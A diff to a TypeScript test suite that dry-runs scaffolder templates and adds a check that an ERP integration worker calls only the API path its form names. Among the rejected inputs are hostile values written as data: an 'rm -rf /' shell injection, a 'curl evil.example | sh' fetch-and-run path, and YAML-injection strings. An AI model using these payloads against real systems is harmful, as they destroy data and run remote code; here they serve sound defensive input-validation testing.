@@ -317,11 +317,34 @@ describe('golden templates through a real scaffolder dry run', () => {
     expect(actionlintChecked).toBe(templates.length * 12);
   });
 
+  /**
+   * A dry run of a template with its base values, a standard tier on AWS with GitHub Actions
+   * (a complete form), and `values` over them.
+   */
+  const dryRun = (templateName: string, values: Record<string, unknown>) => {
+    const dir = path.join(TEMPLATES_DIR, templateName);
+    return request(server)
+      .post('/api/scaffolder/v2/dry-run')
+      .set('Authorization', mockCredentials.user.header())
+      .send({
+        template: parse(
+          fs.readFileSync(path.join(dir, 'template.yaml'), 'utf8'),
+        ),
+        values: {
+          ...BASE_VALUES[templateName],
+          tier: 'standard',
+          clouds: ['aws'],
+          ciProvider: 'github-actions',
+          deployStrategy: 'rolling',
+          repoUrl: `github.com?owner=meridian&repo=${BASE_VALUES[templateName].name}`,
+          ...values,
+        },
+        directoryContents: directoryContents(dir),
+      });
+  };
+
   it('rejects, at the form, a name that could inject YAML or shell', async () => {
-    const dir = path.join(TEMPLATES_DIR, 'api-service');
-    const template = parse(
-      fs.readFileSync(path.join(dir, 'template.yaml'), 'utf8'),
-    );
+    expect((await dryRun('api-service', {})).status).toBe(200);
     for (const bad of [
       { name: 'x"; rm -rf / #' },
       { name: 'svc\nkind: Group' },
@@ -331,22 +354,58 @@ describe('golden templates through a real scaffolder dry run', () => {
       { tier: 'gold' },
       { businessProcesses: ['order-to-cash', 'world-domination'] },
     ]) {
-      const res = await request(server)
-        .post('/api/scaffolder/v2/dry-run')
-        .set('Authorization', mockCredentials.user.header())
-        .send({
-          template,
-          values: {
-            ...BASE_VALUES['api-service'],
-            tier: 'standard',
-            clouds: ['aws'],
-            ciProvider: 'github-actions',
-            deployStrategy: 'rolling',
-            ...bad,
-          },
-          directoryContents: directoryContents(dir),
-        });
+      const res = await dryRun('api-service', bad);
       expect({ bad, status: res.status }).toEqual({ bad, status: 400 });
+    }
+  });
+
+  it('has the worker call the ERP operation the form names, and refuses a path it cannot call', async () => {
+    const worker = (values: Record<string, unknown>) =>
+      dryRun('erp-integration-worker', {
+        erpApi: 'api:default/ledger-postings-api',
+        erpApiRange: '^4.0.0',
+        erpComponent: 'component:default/accounting',
+        ...values,
+      });
+    // A queue named for what happened, an operation of the API: the two are unrelated.
+    const res = await worker({
+      erpPath: '/tenants/{tenantId}/journal-entries',
+    });
+    expect(res.status).toBe(200);
+    const files: Record<string, string> = Object.fromEntries(
+      res.body.directoryContents.map(
+        (f: { path: string; base64Content: string }) => [
+          f.path,
+          Buffer.from(f.base64Content, 'base64').toString('utf8'),
+        ],
+      ),
+    );
+    expect(JSON.parse(files['test/contract/ledger-postings-api.json'])).toEqual(
+      {
+        operations: [
+          { method: 'post', path: '/tenants/{tenantId}/journal-entries' },
+        ],
+      },
+    );
+    expect(files['src/message.ts']).toContain(
+      "path: '/tenants/{tenantId}/journal-entries',",
+    );
+    expect(files['src/message.ts']).not.toContain('/supplier-invoices');
+    expect(
+      JSON.parse(files['test/business/checks.json']).default[0].expect.json
+        .erpRequest.path,
+    ).toBe('/tenants/waybill-synthetic/journal-entries');
+    for (const erpPath of [
+      '/warehouses/{warehouseCode}/shipments',
+      '/tenants/{tenantId}',
+      "/tenants/{tenantId}/x'; curl evil.example | sh",
+      '/tenants/{tenantId}/journal-entries\nkind: Group',
+    ]) {
+      const refused = await worker({ erpPath });
+      expect({ erpPath, status: refused.status }).toEqual({
+        erpPath,
+        status: 400,
+      });
     }
   });
 });
